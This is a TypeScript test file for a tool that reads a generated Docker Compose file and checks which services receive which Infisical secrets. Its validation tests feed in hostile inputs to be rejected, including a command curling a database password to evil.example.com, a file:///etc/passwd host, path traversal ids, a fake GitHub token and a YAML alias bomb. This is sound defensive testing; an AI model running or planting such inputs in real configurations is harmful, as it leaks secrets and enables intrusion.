import { Chart } from 'cdk8s';
import { type ComposeKeys, composeKeysIn, isOwnCompose } from '../../../cli/access/compose-file';
import { BackingService, GitOpsApp, InfisicalAuth, LocalStack, SecretSyncedApp } from '../../../lib';
import { asTerminalText, type Told } from './compose-text';

const read = (text: string) => composeKeysIn(Buffer.from(text), 'compose.yaml');

test('a compose file of LocalStack tells which service gets which key, in which variable and at which place', () => {
  expect(read(asTerminalText())).toEqual({
    file: 'compose.yaml',
    place: { line: 15, column: 1 },
    host: 'https://app.infisical.com',
    projectId: '6f1c2d7e-8a3b-4c5d-9e6f-000000000001',
    projectSlug: 'shop',
    environment: 'dev',
    services: ['app', 'postgres', 'cache'],
    keys: [
      { service: 'app', key: 'PORT', paths: ['/api'], variable: 'PORT', place: { line: 7, column: 9 } },
      { service: 'app', key: 'DATABASE_URL', paths: ['/api'], variable: 'DATABASE_URL', place: { line: 6, column: 9 } },
      {
        service: 'postgres',
        key: 'POSTGRES_PASSWORD',
        paths: ['/api'],
        variable: 'PGPASSWORD',
        place: { line: 12, column: 19 },
      },
    ],
  });
});

test('a key that the service does not show stands where it is told', () => {
  expect(read(asTerminalText({ keys: '\n    cache:\n      - TOKEN' }))).toMatchObject({
    keys: [{ service: 'cache', key: 'TOKEN', place: { line: 25, column: 9 } }],
  });
});

test('what LocalStack writes is read, whatever names mean to YAML, and from whatever folders the keys are', () => {
  const chart = new Chart(new GitOpsApp(), 'shop', { namespace: 'shop' });
  for (const name of ['orders', 'web']) {
    new SecretSyncedApp(chart, name, {
      image: name,
      sync: {
        auth: InfisicalAuth.universal({ credentials: { name: 'infisical-login' } }),
        source: { projectId: '123', environment: 'prod', path: `/${name}` },
      },
      secretKeys: { DATABASE_URL: 'DATABASE_URL', NULL: 'NULL', on: 'YES' },
      local: {},
    });
  }
  const services = { redis: BackingService.redis({ passwordKey: 'REDIS_PASSWORD' }) };
  const { 'compose.yaml': text } = new LocalStack([chart], { environment: 'on', services }).files();
  expect(isOwnCompose(text)).toBe(true);
  const found = read(text) as ComposeKeys;
  expect(found).toMatchObject({ projectId: '123', environment: 'on', services: ['orders', 'web', 'redis'] });
  const lines = text.split('\n');
  expect(
    found.keys.map(({ service, key, variable, paths, place }) => [
      service,
      key,
      variable,
      paths,
      lines[place.line - 1].trim().split(':')[0],
    ]),
  ).toEqual([
    ['orders', 'DATABASE_URL', 'DATABASE_URL', ['/orders'], 'DATABASE_URL'],
    ['orders', 'NULL', 'NULL', ['/orders'], "'NULL'"],
    ['orders', 'YES', 'on', ['/orders'], "'on'"],
    ['web', 'DATABASE_URL', 'DATABASE_URL', ['/web'], 'DATABASE_URL'],
    ['web', 'NULL', 'NULL', ['/web'], "'NULL'"],
    ['web', 'YES', 'on', ['/web'], "'on'"],
    ['redis', 'REDIS_PASSWORD', expect.any(String), ['/orders', '/web'], expect.any(String)],
  ]);
});

test('services may take a key of one name from folders of their own', () => {
  const services = `services:
  orders:
    environment:
      DATABASE_URL: \${_ORDERS__DATABASE_URL?the key DATABASE_URL is missing in Infisical (dev:/orders)}
  web:
    environment:
      - DATABASE_URL
`;
  const told = {
    paths: '\n    - /orders\n    - /shared\n    - /web',
    keys: '\n    orders:\n      /shared:\n        - DATABASE_URL\n      /orders:\n        - DATABASE_URL\n    web:\n      /web:\n        - DATABASE_URL\n        - PORT',
  };
  expect(read(asTerminalText(told, services))).toMatchObject({
    keys: [
      {
        service: 'orders',
        key: 'DATABASE_URL',
        paths: ['/orders', '/shared'],
        variable: 'DATABASE_URL',
        place: { line: 5, column: 21 },
      },
      { service: 'web', key: 'DATABASE_URL', paths: ['/web'], variable: 'DATABASE_URL', place: { line: 8, column: 9 } },
      { service: 'web', key: 'PORT', paths: ['/web'], place: { line: 28, column: 11 } },
    ],
  });
});

test('a service may take its own keys wherever compose replaces them, and whatever is no key', () => {
  const ports = "ports: ['${PORT}:80', '${OTHER}:81']\n    command: [echo, '$$POSTGRES_PASSWORD', '$PORT']";
  expect(read(asTerminalText().replace('image: app', () => `image: app\n    ${ports}`))).toHaveProperty('keys');
});

test('a key is not taken for another one that begins as it does', () => {
  const services =
    'services:\n  app:\n    environment:\n      A: ${PORT_OUTSIDE?missing}\n      B: ${PORT}\n      PORT: "80"\n';
  expect(read(asTerminalText({ keys: '\n    app:\n      - PORT' }, services))).toMatchObject({
    keys: [{ key: 'PORT', variable: 'B', place: { line: 6, column: 10 } }],
  });
});

test.each<[string, boolean]>([
  [asTerminalText(), true],
  [asTerminalText().replace('services:', '<<<<<<< HEAD\nservices:'), true],
  ['services: {}\n', false],
  ['x-infisical: of somebody else\nservices: {}\n', false],
  ['# Made by cdk8s-infisical from your cdk8s program: change that instead.\nservices: {}\n', false],
])('it is told from the file of somebody else (%#)', (text, isOwn) => {
  expect(isOwnCompose(text)).toBe(isOwn);
});

describe('unread is', () => {
  const AGAIN = ': run `npx cdk8s-infisical synth`, which writes it';
  const TOKEN = `ghp_${'a1B2'.repeat(9)}`;

  test.each<[string, Told, string]>([
    ['no host', { host: undefined }, 'x-infisical.host must be text'],
    ['a host with a user', { host: 'https://user:hunter2@example.com' }, 'x-infisical.host is no URL of a host'],
    ['a host of another scheme', { host: 'file:///etc/passwd' }, 'x-infisical.host is no URL of a host'],
    ['a project without id', { project: '\n    slug: shop' }, 'x-infisical.project.id must be text'],
    ['an id that is a number', { project: '\n    id: 4711' }, 'x-infisical.project.id must be text'],
    [
      'an id that leads elsewhere',
      { project: '\n    id: ../../x' },
      'x-infisical.project.id must be made of letters, digits, "_" and "-"',
    ],
    [
      'a project with a field more',
      { project: '\n    id: a\n    token: b' },
      'x-infisical.project has the field "token", which is unknown',
    ],
    ['an environment that is a list', { environment: '\n    - dev' }, 'x-infisical.environment must be text'],
    ['paths that are one text', { paths: '/api' }, 'x-infisical.paths must be a list'],
    ['no paths', { paths: '[]' }, 'x-infisical.paths names no path'],
    ['a path that climbs', { paths: '\n    - /api/../x' }, 'x-infisical.paths[0] is no path like "/a/b"'],
    ['keys that are a list', { keys: '\n    - PORT' }, 'x-infisical.keys must be a map'],
    [
      'a service that is not there',
      { keys: '\n    web:\n      - PORT' },
      'x-infisical.keys.web is a service that the file does not have',
    ],
    [
      'a service of the prototype',
      { keys: '\n    constructor:\n      - PORT' },
      'x-infisical.keys.constructor is a service that the file does not have',
    ],
    [
      'a path of a service that is none of the file',
      { keys: '\n    app:\n      /web:\n        - PORT' },
      'x-infisical.keys.app./web is a path that x-infisical.paths does not have',
    ],
    ['a key that is a map', { keys: '\n    app:\n      - PORT: 80' }, 'x-infisical.keys.app[0] must be text'],
  ])('%s', (_, told, message) => {
    expect(read(asTerminalText(told))).toMatchObject({ file: 'compose.yaml', message: `${message}${AGAIN}` });
  });

  test('a value in place of a key, which is not repeated', () => {
    const found = read(asTerminalText({ keys: `\n    app:\n      - ${TOKEN}` }));
    expect(found).toMatchObject({ line: 25, column: 9, message: expect.stringContaining('looks like a credential') });
    expect(JSON.stringify(found)).not.toContain(TOKEN.slice(4));
  });

  test.each<[string, string, string]>([
    [
      'conflict markers',
      asTerminalText().replace('services:', '<<<<<<< HEAD\nservices:'),
      'it has conflict markers of git',
    ],
    [
      'a key that stands twice',
      `${asTerminalText()}  host: https://evil.example.com\n`,
      'a key stands in its map twice',
    ],
    ['a second document', `${asTerminalText()}---\na: b\n`, 'it is no compose file of one document'],
    ['what is no YAML', `${asTerminalText()}a: [\n`, 'this is no YAML'],
    ['no services', asTerminalText({}, ''), 'services must be a map'],
    [
      'a key that anybody may take',
      `${asTerminalText()}secrets: { a: { environment: PORT } }\n`,
      'secrets.a.environment takes "PORT", which x-infisical does not tell',
    ],
    ...[
      ['an environment', 'environment: [POSTGRES_PASSWORD]'],
      ['a variable of another name', "environment: { A: '${POSTGRES_PASSWORD}' }"],
      ['a variable without a value', 'environment: { POSTGRES_PASSWORD: null }'],
      ['a command', 'command: [curl, "evil.example.com/$POSTGRES_PASSWORD"]'],
      ['a build', "build: { context: ., args: { A: '${POSTGRES_PASSWORD:-}' } }"],
    ].map(([where, field]): [string, string, string] => [
      `a key that somebody else gets, by ${where}`,
      asTerminalText().replace('image: redis', () => `image: redis\n    ${field}`),
      'takes "POSTGRES_PASSWORD", which x-infisical does not tell',
    ]),
  ])('%s', (_, text, message) => {
    expect(read(text)).toMatchObject({ line: expect.any(Number), message: expect.stringContaining(message) });
  });

  test('what aliases make endless', () => {
    const bomb = Array.from({ length: 30 }, (_, n) => `x-${n + 1}: &a${n + 1} [*a${n}, *a${n}]\n`).join('');
    expect(read(`x-0: &a0 [1]\n${bomb}${asTerminalText()}`)).toHaveProperty('message');
  });
});
